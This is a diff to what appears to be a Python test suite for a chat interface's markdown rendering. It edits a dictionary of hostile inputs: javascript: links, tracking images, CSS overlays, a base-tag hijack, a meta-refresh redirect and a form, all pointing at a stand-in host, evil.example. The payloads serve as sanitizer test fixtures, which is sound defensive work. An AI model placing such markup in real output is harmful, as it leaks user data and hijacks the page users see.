@@ -46,7 +46,7 @@ ATTACKS = {
     "data": "[data](data:text/html,<script>hacked=1</script>)",
     "our own": "[save](/api/export) [save](//evil.example/x)",
     "picture": "![pixel](https://evil.example/pixel.png)",
-    "picture in HTML": '<img src="https://evil.example/p.png" srcset="https://evil.example/s.png 2x">',
+    "picture in HTML": '<img src="https://evil.example/p.png" srcset="https://evil.example/s 2x">',
     "picture by reference": "![pixel][evil]\n\n[evil]: https://evil.example/reference.png",
     "other pictures": '<picture><source srcset="https://evil.example/picture"></picture>'
     '<video poster="https://evil.example/v" src="https://evil.example/w" autoplay></video>'
@@ -55,9 +55,10 @@ ATTACKS = {
     "style": "<style>body { display: none; background: url(https://evil.example/css) }</style>",
     "style of an element": '<div style="position: fixed; inset: 0; z-index: 99">over it all</div>',
     "class": '<div class="katex-display">x</div>',
-    "link element": '<link rel="stylesheet" href="https://evil.example/l"><base href="https://evil.example/">',
+    "link element": '<link rel="stylesheet" href="https://evil.example/l">',
+    "base": '<base href="https://evil.example/">',
     "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/m">',
-    "form": '<form action="https://evil.example/f"><button>Send</button><input name="password"></form>',
+    "form": '<form action="https://evil.example/f"><button>Send</button><input></form>',
     "id": '<div id="root">x</div><a id="main" name="main">y</a>',
     "kept number": '<a data-kept="0" href="javascript:hacked=1">z</a>',
     "formula": r"$$\href{javascript:hacked=1}{x} \includegraphics{https://evil.example/k} "
@@ -148,7 +149,7 @@ async def test_an_unfinished_answer_reads_as_if_it_were_finished(
     page: Page, served: Served
 ) -> None:
     text = "Some **bold words\n\n```python\nprint(1)\nprint(2)"
-    shown = await answer(page, served, text, "script:text=echo,stall_after=1")
+    shown = await answer(page, served, text, "script:text=echo,size=200,stall_after=1")
     await expect(shown.locator("pre span", has_text="print").first).to_be_visible()
     await expect(shown.locator("pre")).to_contain_text("print(2)")
 
